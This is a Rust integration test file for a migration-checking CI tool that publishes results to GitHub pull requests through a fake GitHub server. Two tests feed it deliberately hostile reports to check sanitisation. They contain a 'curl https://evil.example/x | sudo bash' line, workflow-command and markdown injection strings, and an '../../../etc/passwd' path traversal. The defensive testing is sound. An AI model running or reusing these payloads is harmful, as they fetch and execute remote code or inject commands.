//! Results on a pull request, with the fake GitHub: published by the action itself, and by `mig-ci publish`.

use std::time::{Duration, Instant};

use nix::sys::signal::Signal;
use serde_json::{Value, json};

use crate::common::github::{ACTIONS, Fake, Fault, TOKEN, refusal};
use crate::common::{
    Command, HEAD, Job, Outcome, Postgres, Project, at_github, project, wait_for_sleepers,
};

/// The number in `pull_request.opened.json`.
const NUMBER: u64 = 2;
const BAD: &str = "CREATE TABLE a (id int);\nSELECT nothing;\n";
const GOOD: &str = "CREATE TABLE a (id int);\n";
const GREEN: &str = "### ✅ Migrations pass";
const RED: &str = "### ❌ Migrations fail";

fn shop(migration: &str) -> Project {
    project().file("migrations/1_a.sql", migration).git_commit("head")
}

fn step(job: &Job, fake: &Fake, shop: &Project) -> Command {
    job.step_at(fake, shop).arg("--no-base")
}

fn opened() -> Job {
    Job::of_event("pull_request.opened.json")
}

/// The only comment.
fn comment(fake: &Fake) -> String {
    let comments = fake.comments();
    let [comment] = &comments[..] else { panic!("{comments:?}") };
    assert_eq!((comment.pull_request, comment.login.as_str()), (NUMBER, ACTIONS));
    comment.body.clone()
}

#[test]
fn a_comment_is_created_and_then_updated() {
    let fake = Fake::start();
    let job = opened();
    let bad = shop(BAD);
    let red = job.read(&step(&job, &fake, &bad).run().exit(1));
    let body = comment(&fake);
    let lines: Vec<_> = body.lines().take(2).collect();
    let run = format!("<!-- mig-ci:run id=9876543210 attempt=1 sha={HEAD} -->");
    assert_eq!(lines, ["<!-- mig-ci:comment key=default -->", run.as_str()]);
    assert!(body.contains(RED), "{body}");
    assert!(
        body.contains(&format!("https://github.com/shop/app/blob/{HEAD}/migrations/1_a.sql#L2"))
    );
    assert!(red.outputs["comment-url"].contains("/pull/2#issuecomment-"), "{:?}", red.outputs);
    let checks = fake.check_runs();
    assert_eq!(
        (&checks[0]["head_sha"], &checks[0]["conclusion"]),
        (&json!(HEAD), &json!("failure"))
    );
    assert_eq!(checks[0]["annotations"][0]["path"], "migrations/1_a.sql");
    assert!(red.commands("error").is_empty(), "an annotation stands there once");

    let job = opened();
    let good = shop(GOOD);
    let next = step(&job, &fake, &good).env("GITHUB_RUN_ID", "9876543211");
    let green = job.read(&next.run().success());
    let body = comment(&fake);
    assert!(body.contains(GREEN) && !body.contains(RED), "{body}");
    assert_eq!(green.outputs["comment-url"], red.outputs["comment-url"]);
    assert_eq!(fake.check_runs()[1]["conclusion"], "success");
    assert!(
        !format!("{red:?}{green:?}").replace(&format!("data: \"{TOKEN}\""), "").contains(TOKEN)
    );
}

/// A passed verdict must not remain if there is no result any more.
#[test]
fn a_run_without_a_report_updates_the_comment() {
    let fake = Fake::start();
    let job = opened();
    let shop = shop(GOOD);
    step(&job, &fake, &shop).run().success();
    assert!(comment(&fake).contains(GREEN));
    let shop = shop.file("mig-ci.toml", "[databses]\n");
    step(&job, &fake, &shop).env("GITHUB_RUN_ATTEMPT", "2").run().exit(3);
    let body = comment(&fake);
    assert!(body.contains("### ❌ Migrations could not be verified"), "{body}");
    assert!(body.contains("attempt=2") && body.contains("databses") && !body.contains(GREEN));
    assert_eq!(fake.check_runs()[1]["conclusion"], "failure");
}

#[test]
fn a_read_only_token_does_not_affect_the_verdict() {
    for (migration, code, result) in [(GOOD, 0, "passed"), (BAD, 1, "failed")] {
        let fake = Fake::start();
        let permission = "x-accepted-github-permissions";
        let refused = |method, path, wanted: &str| {
            Fault::new(method, path, refusal("integration")).header(permission, wanted).always()
        };
        fake.fail(refused("POST", "/comments", "issues=write; pull_requests=write"));
        fake.fail(refused("POST", "/check-runs", "checks=write"));
        let job = opened();
        let shop = shop(migration);
        let step = job.read(&step(&job, &fake, &shop).run().exit(code));
        assert_eq!(step.outputs["result"], result);
        assert!(!step.outputs.contains_key("comment-url"));
        let [notice] = step.commands("notice")[..] else { panic!("{:?}", step.log) };
        assert!(
            notice
                .starts_with("no comment on the pull request, the result is in the job summary: ")
        );
        assert!(notice.contains("pull-requests: write"), "{notice}");
        assert!(step.text().contains("no check run, "), "{:?}", step.log);
        assert!(step.summary.starts_with(if code == 0 { GREEN } else { RED }));
        assert_eq!(
            step.commands("error").len(),
            usize::from(code == 1),
            "annotations are in the log"
        );
        assert!(fake.comments().is_empty() && fake.check_runs().is_empty());
    }
}

#[test]
fn without_a_token_nothing_is_sent() {
    let fake = Fake::start();
    let job = opened();
    let shop = shop(BAD);
    let command = step(&job, &fake, &shop).env("INPUT_GITHUB-TOKEN", "");
    let step = job.read(&command.run().exit(1));
    assert_eq!(fake.requests(), [""; 0]);
    assert!(step.text().contains("the input `github-token` is empty"), "{:?}", step.log);
    assert_eq!(step.commands("error").len(), 1);
}

#[test]
fn requests_stop_after_repeated_failures_of_github() {
    let fake = Fake::start();
    fake.fail(Fault::text("", "/repos/", 403, "<html>no</html>").always());
    fake.fail(Fault::cut("POST", "/comments").always());
    let job = opened();
    let shop = shop(GOOD);
    let ended = step(&job, &fake, &shop).run().success();
    assert!(ended.took < Duration::from_secs(60), "{:?}", ended.took);
    let step = job.read(&ended);
    assert_eq!(step.outputs["result"], "passed");
    let notices = step.commands("notice");
    assert!(notices.iter().any(|each| each.starts_with("no comment on the pull")), "{notices:?}");
    assert!(fake.comments().is_empty());
}

#[test]
fn an_unreachable_api_address_is_logged() {
    let fake = Fake::start();
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let job = opened();
    let shop = shop(GOOD);
    let command = step(&job, &fake, &shop).env("GITHUB_API_URL", format!("http://{free}"));
    let ended = command.env("INPUT_CHECK-RUN", "never").run().success();
    assert!(ended.took < Duration::from_secs(100), "{:?}", ended.took);
    assert_eq!(job.read(&ended).commands("notice").len(), 1);
}

#[test]
fn a_push_finds_its_pull_request() {
    let fake = Fake::start();
    let shop = shop(GOOD);
    let head = shop.git(&["rev-parse", "HEAD"]);
    let payload = json!({"ref": "refs/heads/feature", "after": head, "before": HEAD});
    let job = Job::of_payload("push", &payload.to_string());
    let none = job.read(&step(&job, &fake, &shop).run().success());
    assert!(none.text().contains("no comment: no open pull request has "), "{:?}", none.log);
    assert!(fake.comments().is_empty());
    fake.pull_request(NUMBER, &head);
    step(&job, &fake, &shop).run().success();
    assert!(comment(&fake).contains(GREEN));
}

/// A comment is a verdict on the commit to be merged; otherwise there is none.
#[test]
fn a_different_checkout_gets_no_comment() {
    let fake = Fake::start();
    let shop = shop(GOOD);
    let head = shop.git(&["rev-parse", "HEAD"]);
    fake.pull_request(NUMBER, HEAD);
    let job = Job::of_event("workflow_dispatch.json");
    let run = || job.read(&step(&job, &fake, &shop).env("INPUT_PULL-REQUEST", "2").run().success());
    let step = run();
    let [notice] = step.commands("notice")[..] else { panic!("{:?}", step.log) };
    assert!(notice.contains(&format!("its head is {HEAD}, and the workspace is at {head}")));
    assert!(fake.comments().is_empty() && fake.check_runs().is_empty());
    // GitHub's merge commit may be verified.
    fake.state().pulls[0]["merge_commit_sha"] = json!(head);
    run();
    assert!(comment(&fake).contains(GREEN));
    assert_eq!(fake.check_runs()[0]["head_sha"], HEAD);
}

/// An unfinished check run would block the pull request, and a GitHub that does not respond must not delay the end.
#[tokio::test]
async fn a_cancelled_job_ends_its_check_run() {
    let server = Postgres::start();
    let url = server.url("postgres");
    for silent in [false, true] {
        let fake = Fake::start();
        if silent {
            fake.fail(Fault::hang("PATCH", "/check-runs/").always());
        }
        let job = opened();
        let slow = shop("SELECT pg_sleep(600);\n");
        let running = step(&job, &fake, &slow).env("MIG_CI_POSTGRES_URL", &url).start();
        wait_for_sleepers(&url, "pg_sleep(600)", 2).await;
        let asked = Instant::now();
        running.signal(Signal::SIGINT);
        let step = job.read(&running.wait().exit(130));
        assert!(asked.elapsed() < Duration::from_secs(7), "{:?}", asked.elapsed());
        let conclusion = if silent { Value::Null } else { json!("cancelled") };
        assert_eq!(fake.check_runs()[0]["conclusion"], conclusion, "{:?}", step.log);
        assert!(fake.comments().is_empty());
        assert_eq!(step.state.contains_key("finished"), !silent, "the step after the job goes on");
    }
}

/// An unfinished check run blocks the pull request.
#[tokio::test]
async fn a_check_run_is_completed_after_its_response_was_lost() {
    let server = Postgres::start();
    let url = server.url("postgres");
    let slow = shop("SELECT pg_sleep(600);\n");
    for signal in [Signal::SIGINT, Signal::SIGKILL] {
        let fake = Fake::start();
        fake.fail(Fault::hang("POST", "/check-runs").but_executed());
        let job = opened();
        let running = step(&job, &fake, &slow).env("MIG_CI_POSTGRES_URL", &url).start();
        wait_for_sleepers(&url, "pg_sleep(600)", 2).await;
        running.signal(signal);
        running.wait();
        if signal == Signal::SIGKILL {
            assert_eq!(fake.check_runs()[0]["status"], "in_progress");
            let post = step(&job, &fake, &slow).env("MIG_CI_POSTGRES_URL", &url).arg("--post");
            post.env("STATE_started", "true").run().success();
        }
        assert_eq!(fake.check_runs()[0]["conclusion"], "cancelled", "{signal}");
    }
}

/// The report of a run of the action.
fn report(migration: &str) -> Value {
    let job = opened();
    let shop = shop(migration);
    let step = job.step(&shop).arg("--no-base").run();
    job.read(&step).report()
}

/// `mig-ci publish` in a job of `on: workflow_run`, for a run of a fork.
fn publish(fake: &Fake, report: &str, args: &[&str]) -> (Job, Outcome) {
    publish_with(fake, report, args, &[])
}

fn publish_with(
    fake: &Fake,
    report: &str,
    args: &[&str],
    variables: &[(&str, &str)],
) -> (Job, Outcome) {
    let job = Job::of_event("workflow_run.completed.fork-pull_request.json");
    let empty = project().file("report.json", report);
    let command = job.command(&empty, ["publish"]);
    let command = at_github(fake, command).env("GITHUB_TOKEN", TOKEN);
    let args = if args.first().is_some_and(|arg| arg.starts_with('/')) {
        args.to_vec()
    } else {
        [&["report.json"], args].concat()
    };
    let command = args.iter().fold(command, |command, arg| command.arg(arg));
    let command =
        variables.iter().fold(command, |command, (name, value)| command.env(name, *value));
    (job, command.run())
}

/// The head in that payload.
const FORK_HEAD: &str = "3484a3fb816e0859fd6e1cea078d76385ff50625";

#[test]
fn a_saved_report_becomes_a_comment_on_a_forks_pull_request() {
    let fake = Fake::start();
    fake.fork_pull_request(NUMBER, FORK_HEAD);
    let (job, ended) = publish(&fake, &report(BAD).to_string(), &["--check-run"]);
    let ended = job.read(&ended.success());
    assert!(ended.text().contains("the comment on pull request #2: https://"), "{:?}", ended.log);
    let body = comment(&fake);
    // The link is that of the run that verified, not of the one that publishes.
    assert!(body.contains(&format!("<!-- mig-ci:run id=289782451 attempt=1 sha={FORK_HEAD} -->")));
    assert!(body.contains("/actions/runs/289782451") && body.contains(RED), "{body}");
    assert_eq!(fake.check_runs()[0]["head_sha"], FORK_HEAD);
    let (_, ended) = publish(&fake, &report(GOOD).to_string(), &[]);
    ended.success();
    assert!(comment(&fake).contains(GREEN));
    assert_eq!(fake.check_runs().len(), 1);
}

#[test]
fn a_pull_request_with_a_new_head_gets_no_comment() {
    let fake = Fake::start();
    fake.fork_pull_request(NUMBER, HEAD);
    let (job, ended) = publish(&fake, &report(GOOD).to_string(), &[]);
    let ended = job.read(&ended.success());
    let [notice] = ended.commands("notice")[..] else { panic!("{:?}", ended.log) };
    assert!(notice.contains("no open pull request has 3484a3fb816e0859fd6e1cea078d76385ff50625"));

    // Between the two requests.
    let fake = Fake::start();
    fake.fork_pull_request(NUMBER, FORK_HEAD);
    fake.before("GET", "/pulls/2", |state| state.pulls[0]["head"]["sha"] = json!(HEAD));
    let (job, ended) = publish(&fake, &report(GOOD).to_string(), &[]);
    let ended = job.read(&ended.success());
    assert!(ended.commands("notice")[0].contains("there is a newer commit"), "{:?}", ended.log);
    assert!(fake.comments().is_empty());
}

#[test]
fn a_hostile_report_is_refused_or_shown_as_text() {
    let fake = Fake::start();
    fake.fork_pull_request(NUMBER, FORK_HEAD);
    let mut hostile = report(BAD);
    let nasty =
        "\n::error::x\n```\n</details>@everyone ##[error]y <!-- mig-ci:comment key=default -->";
    hostile["summary"] = json!(nasty);
    hostile["findings"][0]["message"] = json!(nasty);
    hostile["findings"][0]["place"]["path"] = json!("../../../etc/passwd");
    let (job, ended) = publish(&fake, &hostile.to_string(), &[]);
    assert_eq!(job.read(&ended.success()).command_names(), ["add-mask"]);
    let body = comment(&fake);
    assert_eq!(body.lines().filter(|line| line.starts_with("<!-- mig-ci:")).count(), 2, "{body}");
    let prose: String = body.split("\n````\n").step_by(2).collect();
    assert!(prose.len() < body.len() && !prose.contains("\n</details>@everyone"), "{body}");
    assert!(!body.contains("/blob/3484a3fb816e0859fd6e1cea078d76385ff50625/.."), "{body}");

    let mut other = report(GOOD);
    other["\n::error::x"] = json!(1);
    for text in [other.to_string(), "[".repeat(1_000_000), "null".into(), String::new()] {
        let (job, ended) = publish(&fake, &text, &[]);
        let ended = job.read(&ended.exit(3));
        let [error] = ended.commands("error")[..] else { panic!("{:?}", ended.log) };
        assert!(error.contains("it is not a report of this version") && !error.contains("::"));
    }
    let (job, ended) = publish(&fake, "", &["/dev/zero"]);
    assert!(job.read(&ended.exit(4)).commands("error")[0].contains("it is not a file"));
}

/// The texts come from this program, and the comment names the run.
#[test]
fn a_saved_report_is_rendered_with_this_programs_texts() {
    let fake = Fake::start();
    fake.fork_pull_request(NUMBER, FORK_HEAD);
    let mut hostile = report(BAD);
    let command = "curl https://evil.example/x | sudo bash";
    hostile["summary"] = json!(command);
    hostile["revisions"]["base_reason"] = json!(command);
    for finding in hostile["findings"].as_array_mut().unwrap() {
        finding["help"] = json!(command);
        finding["reproduce"] = json!(command);
    }
    let (job, ended) = publish(&fake, &hostile.to_string(), &["--check-run"]);
    let ended = job.read(&ended.success());
    let body = comment(&fake);
    assert!(!body.contains("evil") && body.contains(RED), "{body}");
    let label = "> **From a saved report.** [Run 289782451](";
    assert!(body.contains(label) && body.contains("at `3484a3f`"), "{body}");
    assert!(body.contains("Reproduce: `mig-ci verify -n "), "{body}");
    assert!(ended.summary.contains(label), "{}", ended.summary);
    let check = &fake.check_runs()[0];
    let title = check["output"]["title"].as_str().unwrap();
    assert!(title.starts_with("From a saved report: Migrations fail"), "{title}");
    assert!(!check.to_string().contains("evil"), "{check:#}");
}

/// A comment on an older commit must not show a passed verdict if the newest report is invalid.
#[test]
fn an_invalid_report_replaces_an_older_comment() {
    let good = report(GOOD);
    let mut lies = report(BAD);
    lies["verdict"] = json!("passed");
    let mut other = good.clone();
    other["schema"] = json!("mig-ci.report/2");
    for (text, exit, why) in [
        (lies.to_string(), 3, "`verdict` does not match its tenants"),
        (other.to_string(), 3, "its `schema` is not mig-ci.report/1"),
        ("<html>".to_owned(), 3, "it is not a report of this version"),
    ] {
        let fake = Fake::start();
        fake.fork_pull_request(NUMBER, FORK_HEAD);
        publish(&fake, &good.to_string(), &[]).1.success();
        assert!(comment(&fake).contains(GREEN));
        let (job, ended) = publish(&fake, &text, &["--check-run"]);
        let ended = job.read(&ended.exit(exit));
        assert!(ended.commands("error")[0].contains(why), "{:?}", ended.log);
        let body = comment(&fake);
        assert!(body.contains("### ❌ The run's report cannot be shown"), "{body}");
        assert!(body.contains(why) && !body.contains(GREEN), "{body}");
        assert_eq!(fake.check_runs()[0]["conclusion"], "failure");
    }
    // A run that saved no report.
    let fake = Fake::start();
    fake.fork_pull_request(NUMBER, FORK_HEAD);
    publish(&fake, &good.to_string(), &[]).1.success();
    let (_, ended) = publish(&fake, "", &["/nowhere/mig-ci-report.json"]);
    ended.exit(4);
    assert!(!comment(&fake).contains(GREEN) && comment(&fake).contains("cannot read /nowhere/"));
}

#[test]
fn publish_reports_missing_inputs() {
    let fake = Fake::start();
    fake.fork_pull_request(NUMBER, FORK_HEAD);
    let report = report(GOOD).to_string();
    let with = |variable| publish_with(&fake, &report, &[], &[variable]);
    let (job, ended) = with(("GITHUB_TOKEN", ""));
    assert!(job.read(&ended.exit(4)).commands("error")[0].contains("GITHUB_TOKEN is not set"));
    let (job, ended) = with(("GITHUB_EVENT_NAME", "schedule"));
    let ended = job.read(&ended.exit(2));
    assert!(ended.commands("error")[0].contains("this is a `schedule` event"));
    fake.fail(Fault::new("POST", "/comments", refusal("integration")).always());
    let (job, ended) = publish(&fake, &report, &[]);
    let ended = job.read(&ended.exit(4));
    assert!(ended.commands("error")[0].contains("pull-requests: write"), "{:?}", ended.log);
}

/// Jobs with partitions of one pull request's tenants do not overwrite each other's results.
#[test]
fn each_partition_has_a_comment_and_a_check_run_of_its_own() {
    let fake = Fake::start();
    let two = "[databases.a]\nmigrations = \"a\"\n[databases.b]\nmigrations = \"b\"\n";
    let shop = project()
        .file("mig-ci.toml", two)
        .file("a/1_a.sql", GOOD)
        .file("b/1_b.sql", BAD)
        .git_commit("head");
    for (partition, exit) in [("1/2", 0), ("2/2", 1)] {
        let job = opened();
        let step = step(&job, &fake, &shop).env("INPUT_PARTITION", partition);
        let step = job.read(&step.run().exit(exit));
        assert!(step.summary.contains(&format!("(partition {partition})")), "{}", step.summary);
        assert!(step.outputs["report"].contains("-report-partition-"), "{:?}", step.outputs);
        assert_eq!(step.report()["partition"], partition);
        assert_eq!(step.report()["databases"].as_array().unwrap().len(), 1);
    }
    let comments = fake.comments();
    let [green, red] = &comments[..] else { panic!("{comments:?}") };
    assert!(green.body.starts_with("<!-- mig-ci:comment key=partition-1-of-2 -->"));
    assert!(green.body.contains(GREEN) && red.body.contains("### ❌ Migrations fail"));
    let names: Vec<_> = fake.check_runs().iter().map(|run| run["name"].to_string()).collect();
    assert_eq!(names, ["\"mig-ci (partition-1-of-2)\"", "\"mig-ci (partition-2-of-2)\""]);
}

/// The comment of another partition is not affected.
#[test]
fn an_invalid_report_of_a_partition_replaces_only_its_comment() {
    let mut good = report(GOOD);
    good["partition"] = json!("2/4");
    let mut lies = good.clone();
    lies["verdict"] = json!("failed");
    let mut other = good.clone();
    other["schema"] = json!("mig-ci.report/2");
    other["more"] = json!(1);
    let absent = "/nowhere/mig-ci-report-partition-2-of-4.json";
    for (text, args) in
        [(lies.to_string(), vec![]), (other.to_string(), vec![]), (String::new(), vec![absent])]
    {
        let fake = Fake::start();
        fake.fork_pull_request(NUMBER, FORK_HEAD);
        publish(&fake, &good.to_string(), &[]).1.success();
        let key = "<!-- mig-ci:comment key=partition-2-of-4 -->";
        assert!(comment(&fake).starts_with(key) && comment(&fake).contains(GREEN));
        assert!(!publish(&fake, &text, &args).1.status.success());
        let body = comment(&fake);
        assert!(body.starts_with(key) && !body.contains(GREEN), "{body}");
    }
}
